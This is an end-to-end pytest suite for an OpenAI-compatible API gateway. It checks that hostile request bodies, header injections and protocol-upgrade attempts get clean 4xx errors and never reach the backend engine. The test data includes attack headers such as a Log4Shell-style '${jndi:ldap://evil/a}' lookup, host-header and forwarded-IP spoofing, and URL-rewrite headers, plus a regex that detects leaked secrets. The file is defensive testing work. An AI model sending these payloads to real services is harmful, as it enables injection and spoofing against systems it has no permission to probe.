"""All hostile input that we know of, over real sockets: an OpenAI error each, and no engine hears of it."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import AsyncIterator

import pytest

from tests.e2e.stand import Stand, gateway
from tests.faults import FaultyEngine, response
from tests.hostile_bodies import HOSTILE, Hostile
from tests.hostile_heads import GOOD, HEADS, Head, ask

AT_ONCE = 16
ANSWER_MAX_S = 20.0
COMPLETIONS = b"POST /v1/completions HTTP/1.1"


class House:
    """A gateway, and an engine that writes down what reaches it."""

    def __init__(self, stand: Stand, engine: FaultyEngine) -> None:
        self.stand = stand
        self.engine = engine
        self.host, _, port = stand.running.api_url.removeprefix("http://").partition(":")
        self.port = int(port)

    @property
    def carried(self) -> list[bytes]:
        """What the engine was asked to do."""
        return [request.line for request in self.engine.requests if not request.line.startswith(b"GET /v1/models ")]

    async def send(self, data: bytes, *, until_closed: bool = False) -> tuple[int, dict[bytes, bytes], bytes]:
        """One connection: these bytes, and the first answer."""
        reader, writer = await asyncio.open_connection(self.host, self.port)
        try:
            async with asyncio.timeout(ANSWER_MAX_S):
                writer.write(data)
                head = await reader.readuntil(b"\r\n\r\n")
                start, *lines = head[:-4].split(b"\r\n")
                headers = {name.lower(): value for name, _, value in (line.partition(b": ") for line in lines)}
                body = await reader.readexactly(int(headers.get(b"content-length", b"0")))
                if until_closed:
                    assert await reader.read() == b""
            return int(start.split()[1]), headers, body
        finally:
            writer.transport.abort()


@pytest.fixture
async def house() -> AsyncIterator[House]:
    async with (
        FaultyEngine((response(b'{"data":[{"id":"m"}]}'),)) as engine,
        gateway({"name": "b0", "url": engine.url, "kind": "openai"}) as stand,
    ):
        yield House(stand, engine)


def error_of(body: bytes) -> dict[str, str | None]:
    """An OpenAI error with all of its four fields."""
    answer = json.loads(body)
    assert list(answer) == ["error"]
    assert set(answer["error"]) == {"message", "type", "param", "code"}
    error: dict[str, str | None] = answer["error"]
    assert error["type"] in ("invalid_request_error", "timeout_error")
    assert error["message"]
    return error


async def test_hostile_bodies_reach_no_engine(house: House) -> None:
    """Each gets its 4xx with its code and param."""
    slots = asyncio.Semaphore(AT_ONCE)

    async def one(hostile: Hostile) -> None:
        async with slots:
            got = await house.stand.post(hostile.endpoint, hostile.body)
        error = error_of(got.body)
        expected = (404 if hostile.code == "model_not_found" else 400, hostile.code, hostile.param)
        assert (got.status, error["code"], error["param"]) == expected, hostile
        assert got.headers["x-should-retry"] == "false"
        assert got.headers["x-request-id"]
        assert "retry-after" not in got.headers

    async with asyncio.TaskGroup() as group:
        for hostile in HOSTILE:
            group.create_task(one(hostile))
    assert len(HOSTILE) >= 450
    assert house.carried == []


async def test_hostile_heads_reach_no_engine(house: House) -> None:
    """Nor does what stands in the first line or in a header; of what is no HTTP nothing is repeated."""
    slots = asyncio.Semaphore(AT_ONCE)

    wrong: list[tuple[str, int, str | None]] = []

    async def one(hostile: Head) -> None:
        async with slots:
            status, headers, body = await house.send(hostile.data)
        code = error_of(body)["code"] if status >= 400 else None
        told = (headers[b"x-request-id"] != b"", headers.get(b"x-should-retry"))
        if not 400 <= status < 500 or code != hostile.code or told != (True, b"false"):
            wrong.append((str(hostile), status, code))
        assert b"secret" not in body

    async with asyncio.TaskGroup() as group:
        for hostile in HEADS:
            group.create_task(one(hostile))
    assert not wrong, wrong
    assert len(HEADS) >= 300
    assert house.carried == []
    assert house.stand.log_lines("internal_error") == []
    assert "secret" not in house.stand.log.getvalue()


@pytest.mark.parametrize("protocol", [b"h2c", b"websocket", b"HTTP/2.0", b"TLS/1.0", b"x"])
async def test_no_other_protocol_is_spoken(house: House, protocol: bytes) -> None:
    """An upgrade is not taken: the request is answered as if nobody had asked for one, or not at all."""
    settings = b"Connection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"
    key = b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="
    for start in (b"GET /health HTTP/1.1", COMPLETIONS):
        status, headers, _ = await house.send(ask(start, settings, key, b"Upgrade: " + protocol))
        assert status in (200, 400)
        assert b"upgrade" not in headers


HOSTILE_HEADERS = (
    *(
        b"Authorization: Bearer sk-of-the-client",
        b"Cookie: session=1",
        b"X-Forwarded-For: 1.2.3.4",
        b"X-Real-IP: 1.2.3.4",
    ),
    *(
        b"Forwarded: for=1.2.3.4;host=evil",
        b"X-Forwarded-Host: evil",
        b"X-Original-URL: /admin",
        b"X-Rewrite-URL: /admin",
    ),
    *(b"X-HTTP-Method-Override: DELETE", b"Proxy-Authorization: Basic eDp5", b"Proxy: http://evil", b"Via: 1.1 evil"),
    *(
        b"Connection: x-secret",
        b"Keep-Alive: timeout=9999",
        b"TE: gzip",
        b"Trailer: X",
        b"Max-Forwards: 0",
        b"Range: bytes=0-1",
    ),
    *(b"x-request-id: a b", b"X-Request-Id: ${jndi:ldap://evil/a}", b"Accept-Encoding: gzip", b"User-Agent: evil"),
    *(b"X_Under_Score: 1", b"Content-Type: text/html", b"Origin: http://evil", b"Referer: http://evil", b"If-Match: x"),
    *(
        b"OpenAI-Organization: evil",
        b"api-key: evil",
        b"x-api-key: evil",
        b"x-kvgate-backend: evil",
        b"traceparent: evil",
    ),
    *(b"tracestate: evil", b"baggage: evil", b"x-routing-logic: evil", b"x-session-id: evil", b"X: \xff\xfe"),
)


async def test_headers_of_a_client_reach_no_engine(house: House) -> None:
    """What is sent to an engine is written from scratch: of a good request with a hostile header, the body alone is."""
    for line in HOSTILE_HEADERS:
        status, _, _ = await house.send(ask(COMPLETIONS, line))
        assert status == 200, line
    asked = [request for request in house.engine.requests if request.line.startswith(b"POST")]
    assert len(asked) == len(HOSTILE_HEADERS)
    ours = {b"host", b"content-type", b"content-length", b"accept", b"accept-encoding", b"user-agent", b"x-request-id"}
    for request in asked:
        assert set(request.headers) <= ours | {b"connection", b"traceparent"}
        assert not re.search(rb"evil|secret|sk-of|1\.2\.3\.4|\$\{|a b", b" ".join(request.headers.values()))
        assert request.headers[b"host"] == house.engine.url.removeprefix("http://").encode()


@pytest.mark.parametrize(
    "line", [b"Host: x/#@evil", b"Host: evil@x", b"Host: a b", b"Host: [::1", b"Host: x\x80", b"Host: ", b"Host: y"]
)
async def test_the_host_decides_nothing(house: House, line: bytes) -> None:
    """Whatever it is, also a second one: refused, or the same answer as for any other."""
    status, _, body = await house.send(ask(COMPLETIONS, line))
    assert status in (200, 400)
    if status == 400:
        assert error_of(body)["code"] == "invalid_http"


async def test_requests_sent_at_once_are_answered_in_order(house: House) -> None:
    """Pipelined, each once; the bad one among them does not hide the others."""
    count = 40
    bad = ask(COMPLETIONS, b"Content-Encoding: x")
    requests = [b"GET /v1/models/m%d HTTP/1.1\r\nHost: x\r\n\r\n" % number for number in range(count)]
    reader, writer = await asyncio.open_connection(house.host, house.port)
    try:
        writer.write(b"".join(requests) + ask(COMPLETIONS, b"Connection: keep-alive") + bad + GOOD)
        async with asyncio.timeout(ANSWER_MAX_S):
            answer = await reader.read()
    finally:
        writer.transport.abort()
    assert re.findall(rb"HTTP/1\.1 (\d+)", answer) == [b"404"] * count + [b"200", b"415"]
    assert [int(number) for number in re.findall(rb"The model 'm(\d+)'", answer)] == list(range(count))
    assert len(house.carried) == 1
